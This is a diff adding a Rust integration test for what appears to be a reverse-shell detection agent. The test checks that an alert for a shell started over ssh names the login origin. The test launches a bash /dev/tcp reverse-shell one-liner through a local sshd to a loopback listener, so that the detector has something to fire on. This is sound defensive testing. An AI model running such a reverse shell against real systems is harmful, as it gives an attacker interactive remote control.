@@ -171,3 +171,61 @@ fn a_container_user_is_named_from_the_containers_own_passwd() {
     assert_eq!(alert["process"]["parent"]["user"]["name"], "root");
     agent.stop();
 }
+
+/// A reverse shell run over ssh (what a stolen key or a compromised CI runner looks like): the
+/// alert names the login it came through, the address and port the session came from, as sshd
+/// itself tells the session (`SSH_CONNECTION`).
+#[test]
+fn a_shell_run_from_an_ssh_login_names_where_the_login_came_from() {
+    if !prerequisites(&["sshd", "ssh", "ssh-keygen", "bash"]) {
+        return;
+    }
+    let sshd = crate::sshd::Sshd::start();
+    let agent = Agent::start(&[]);
+    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
+    let port = listener.local_addr().unwrap().port();
+    let told = sshd.path("ssh_connection");
+    let remote = format!(
+        "echo \\$SSH_CONNECTION > {}; exec bash -c 'exec bash -i >& /dev/tcp/127.0.0.1/{port} 0>&1'",
+        told.display()
+    );
+    let _client = KillOnDrop::new(
+        Command::new("sh")
+            .args(["-c", &format!("exec {} root@127.0.0.1 \"{remote}\"", sshd.ssh())])
+            .stdin(Stdio::null())
+            .stdout(Stdio::null())
+            .stderr(Stdio::null())
+            .spawn()
+            .unwrap(),
+    );
+    let (mut peer, _) = listener.accept().unwrap();
+    peer.set_read_timeout(Some(Duration::from_secs(10))).unwrap();
+    peer.write_all(b"echo over-$((6*7))-ssh\n").unwrap();
+    let mut reader = BufReader::new(peer.try_clone().unwrap());
+    let answered = (0..40).any(|_| {
+        let mut line = String::new();
+        reader.read_line(&mut line).is_ok_and(|_| line.contains("over-42-ssh"))
+    });
+    assert!(answered, "the shell run over ssh answered");
+    let connection = std::fs::read_to_string(&told).unwrap();
+    let fields: Vec<&str> = connection.split_whitespace().collect();
+    let (client_port, server_port): (u64, u64) =
+        (fields[1].parse().unwrap(), fields[3].parse().unwrap());
+    assert_eq!(server_port, u64::from(sshd.port));
+    let alert = agent.wait_for("incident_opened", |e| {
+        is_incident_for(e, port) && e["event"]["action"] == "incident_opened"
+    });
+    let origin = &alert["sockwatch"]["process"]["login_origin"];
+    assert_eq!(origin["remote"]["ip"], "127.0.0.1", "{alert:#}");
+    assert_eq!(origin["remote"]["port"], client_port, "{origin:#}");
+    assert_eq!(origin["local"]["port"], server_port, "{origin:#}");
+    let sshd_names: Vec<&str> = alert["sockwatch"]["process"]["ancestors"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .filter(|a| a["pid"] == origin["pid"])
+        .filter_map(|a| a["executable"].as_str())
+        .collect();
+    assert!(sshd_names.iter().any(|e| e.ends_with("sshd") || e.ends_with("sshd-session")));
+    agent.stop();
+}
